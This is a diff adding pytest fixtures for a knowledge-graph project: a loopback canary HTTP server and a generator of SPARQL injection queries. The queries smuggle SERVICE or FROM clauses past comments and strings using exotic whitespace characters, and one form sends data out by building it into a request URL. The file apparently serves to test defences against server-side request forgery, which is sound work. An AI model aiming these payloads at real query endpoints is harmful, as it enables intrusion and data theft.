@@ -120,3 +120,105 @@ def nlp(gaz):
     from kg.engines import load_resources
 
     return load_resources(None)[0]
+
+
+# ---------------------------------------------------------------------------
+# SSRF: a canary HTTP server on loopback, and queries that try to reach it
+# ---------------------------------------------------------------------------
+
+#: Characters that one parser or another may take as white space or a line end.
+SEPARATORS = {
+    "CR": "\r", "LF": "\n", "CRLF": "\r\n", "LFCR": "\n\r", "VT": "\x0b", "FF": "\x0c", "NEL": "\x85",
+    "LS": "\u2028", "PS": "\u2029", "NBSP": "\xa0", "OGHAM": "\u1680", "MVS": "\u180e",
+    **{f"U+{code:04X}": chr(code) for code in range(0x2000, 0x200B)},
+    "ZWSP": "\u200b", "ZWNJ": "\u200c", "ZWJ": "\u200d", "NNBSP": "\u202f", "MMSP": "\u205f",
+    "WJ": "\u2060", "IDSP": "\u3000", "BOM": "\ufeff", "TAB": "\t", "SPACE": " ", "NUL": "\x00",
+    **{f"U+{code:04X}": chr(code) for code in range(0x1c, 0x20)},  # str.splitlines() line ends
+}
+
+
+class Canary:
+    """An HTTP server on 127.0.0.1 that records every request it gets."""
+
+    def __init__(self):
+        import http.server
+        import threading
+
+        hits = self.hits = []
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self):  # noqa: N802
+                hits.append((self.command, self.path, self.headers.get("User-Agent")))
+                self.send_response(404)
+                self.send_header("Content-Length", "0")
+                self.end_headers()
+
+            do_POST = do_PUT = do_HEAD = do_GET
+
+            def log_message(self, *args):
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self):
+        self.server.shutdown()
+        self.server.server_close()
+
+
+@pytest.fixture(scope="session")
+def canary_server():
+    running = Canary()
+    yield running
+    running.close()
+
+
+@pytest.fixture
+def canary(canary_server):
+    """The canary, its hit list emptied."""
+    canary_server.hits.clear()
+    return canary_server
+
+
+def _ssrf_queries(url: str, separators=None) -> list[tuple[str, str]]:
+    """(name, query) pairs: every separator in comments, strings and IRIs around a SERVICE
+    (or FROM) that Oxigraph would run if it read the separator as a line end or a space."""
+    separators = SEPARATORS if separators is None else separators
+    target = f"<{url}>"
+    exfil = f'BIND(IRI(CONCAT("{url}", ENCODE_FOR_URI(STR(?o)))) AS ?u)'
+    forms = {
+        "comment": "SELECT * WHERE {{ # x{s}SERVICE {t} {{ ?a ?b ?c }} \n}}",
+        "comment-silent": "SELECT * WHERE {{ #{s}SERVICE SILENT {t} {{ ?a ?b ?c }}\n}}",
+        "comment-lower": "select * where {{ # x{s}service {t} {{ ?a ?b ?c }}\n}}",
+        "comment-first": "# x{s}SELECT * WHERE {{ SERVICE {t} {{ ?a ?b ?c }} }}",
+        # store labels in the URL: exfiltration
+        "comment-var": "SELECT * WHERE {{ ?s ?p ?o " + exfil + " # x{s}LATERAL {{ SERVICE ?u {{ ?a ?b ?c }} }}\n}}",
+        "comment-prefix": "PREFIX x: {t}\nSELECT * WHERE {{ # {s}SERVICEx:a {{ ?a ?b ?c }}\n}}",
+        "comment-string": "SELECT * WHERE {{ # \"{s}SERVICE {t} {{ ?a ?b ?c }} # \"\n}}",
+        "string": "SELECT * WHERE {{ BIND(\"x{s}\" AS ?v) # {s}SERVICE {t} {{ ?a ?b ?c }}\n}}",
+        "string-long": "SELECT * WHERE {{ BIND(\"\"\"a{s}\"\"\" AS ?v) "
+                       "BIND(\"\"\"{s}SERVICE {t} {{ ?a ?b ?c }}\"\"\" AS ?w) }}",
+        "string-hash": "SELECT * WHERE {{ BIND(\"#{s}\" AS ?v) # {s}SERVICE {t} {{ ?a ?b ?c }}\n}}",
+        "string-break": "SELECT * WHERE {{ BIND('a{s}SERVICE {t} {{ ?a ?b ?c }}' AS ?v) }}",
+        "service-space": "SELECT * WHERE {{ SERVICE{s}{t} {{ ?a ?b ?c }} }}",
+        "iri": "SELECT * WHERE {{ ?s ?p <http://x/{s}#> # {s}SERVICE {t} {{ ?a ?b ?c }}\n}}",
+        # '<' is "less than" to the engine here: what follows the '#' is a comment to it
+        "iri-hash": "SELECT * WHERE {{ ?s ?p ?o FILTER(1 <2#> \"\"\"{s}) SERVICE {t} {{ ?a ?b ?c }}\n"
+                    "# \"\"\"\n}}",
+        # ... and the quote after "&&" starts a string to it
+        "iri-quote": "SELECT * WHERE {{ ?s ?p ?o FILTER(1 <2&&'b> && \"x' ) SERVICE {t} {{ ?a ?b ?c }} "
+                     "#\"{s}) }}\n}}",
+        "keyword-split": "SELECT * WHERE {{ SERV{s}ICE {t} {{ ?a ?b ?c }} }}",
+        "from": "SELECT (COUNT(*) AS ?n) # x{s}FROM <http://example.org/nothing>\nWHERE {{ ?s ?p ?o }}",
+        "from-named": "SELECT (COUNT(*) AS ?n) # {s}FROM NAMED <http://example.org/nothing>\n"
+                      "WHERE {{ ?s ?p ?o }}",
+    }
+    return [(f"{form}/{name}", text.format(s=sep, t=target))
+            for form, text in forms.items() for name, sep in separators.items()]
+
+
+@pytest.fixture(scope="session")
+def ssrf_queries():
+    """:func:`_ssrf_queries`: ``ssrf_queries(canary.url)``."""
+    return _ssrf_queries
